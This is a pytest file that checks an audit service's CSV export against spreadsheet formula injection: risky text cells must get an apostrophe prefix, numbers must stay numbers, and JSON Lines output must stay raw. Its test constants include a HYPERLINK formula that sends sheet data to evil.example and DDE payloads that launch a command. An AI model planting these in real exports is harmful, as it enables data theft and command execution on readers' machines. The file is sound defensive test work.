"""Audit CSV export: no cell starts a spreadsheet formula.

The trail holds text other people chose: a counterparty, a display name, a plugin's name, a
bank's transaction id, a correlation id. Opened in a spreadsheet, a cell starting with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return ran as a formula (``=HYPERLINK(…)`` sends the
sheet's data away on a click). Text cells that could start one get a leading ``'``; numbers stay
numbers. Driven through the audit app on SQLite, events delivered as the broker would.
"""

import csv
import io
import json
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import pytest
from fastapi.testclient import TestClient

from kasa_audit.main import build
from kasa_servicekit.consumers import handle_event
from kasa_servicekit.db import Database
from kasa_servicekit.events import EventWriter
from kasa_servicekit.migrations import upgrade
from kasa_servicekit.service import create_app
from kasa_servicekit.testing import TokenIssuer

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click for details")'
DDE = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"
SPACED = "  =1+1"


def body(event_type: str, payload: dict[str, Any], workspace_id: uuid.UUID, **envelope: Any):
    return json.dumps(
        {
            "event_id": str(uuid.uuid4()),
            "event_type": event_type,
            "event_version": 1,
            "occurred_at": datetime.now(UTC).isoformat(),
            "producer": event_type.split(".")[0],
            "workspace_id": str(workspace_id),
            "actor": envelope.get("actor", {"type": "plugin", "id": "fio", "name": "Fio"}),
            "correlation_id": envelope.get("correlation_id", "sync-1"),
            "causation_id": None,
            "payload": payload,
        }
    ).encode()


@pytest.fixture
def audit(tmp_path, monkeypatch) -> Iterator[tuple[TestClient, TokenIssuer, str]]:
    url = f"sqlite+aiosqlite:///{tmp_path}/audit.db"
    monkeypatch.setenv("DATABASE_URL", url)
    monkeypatch.setenv("AMQP_URL", "amqp://guest:guest@127.0.0.1:1/")
    spec = build()
    upgrade(spec.migrations, url)
    app = create_app(spec)
    issuer = TokenIssuer()
    issuer.install(app)
    with TestClient(app) as client:
        yield client, issuer, url


async def deliver(url: str, *bodies: bytes) -> None:
    with pytest.MonkeyPatch.context() as env:
        env.setenv("DATABASE_URL", url)
        env.setenv("AMQP_URL", "amqp://guest:guest@127.0.0.1:1/")
        [subscription] = build().subscriptions
    db = Database(url)
    try:
        for raw in bodies:
            await handle_event(db, subscription, subscription.parse(raw), EventWriter("audit"))
    finally:
        await db.dispose()


async def test_text_cells_that_could_start_a_formula_are_neutralized(audit):
    client, issuer, url = audit
    workspace = uuid.uuid4()
    await deliver(
        url,
        body(
            "ledger.transaction.updated",
            {
                "transaction_id": str(uuid.uuid4()),
                "changes": {"counterparty": {"before": "Acme", "after": HYPERLINK}},
            },
            workspace,
            actor={"type": "user", "id": "u-1", "name": HYPERLINK},
            correlation_id=DDE,
        ),
        body(
            "integrations.transaction.imported",
            {"external_id": AT_SUM, "plugin": MINUS, "plugin_version": TAB},
            workspace,
            actor={"type": "plugin", "id": CR, "name": SPACED},
            correlation_id="-1200.50",
        ),
    )
    response = client.get(
        "/api/v1/audit-events/export",
        params={"format": "csv"},
        headers=issuer.headers(workspace),
    )
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
    assert len(rows) == 2
    updated, imported = sorted(rows, key=lambda r: r["event_type"] != "ledger.transaction.updated")

    assert updated["actor_name"] == "'" + HYPERLINK
    assert updated["correlation_id"] == "'" + DDE
    assert imported["entity_id"] == "'" + AT_SUM
    assert imported["source_plugin"] == "'" + MINUS
    assert imported["source_plugin_version"] == "'" + TAB
    assert imported["actor_id"] == "'" + CR
    assert imported["actor_name"] == "'" + SPACED
    # A cell that is just a number is a number to a spreadsheet, never a formula.
    assert imported["correlation_id"] == "-1200.50"
    assert updated["seq"].isdigit() and updated["event_version"] == "1"
    # The counterparty sits inside the JSON of the changes, which starts with "{".
    assert json.loads(updated["changes"])["counterparty"]["after"] == HYPERLINK
    for row in rows:
        for column, cell in row.items():
            if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")):
                assert cell == "-1200.50", (column, cell)

    # JSON Lines are data for programs: exported exactly as recorded.
    lines = client.get("/api/v1/audit-events/export", headers=issuer.headers(workspace)).text
    names = {json.loads(line)["actor"]["name"] for line in lines.splitlines()}
    assert names == {HYPERLINK, SPACED}
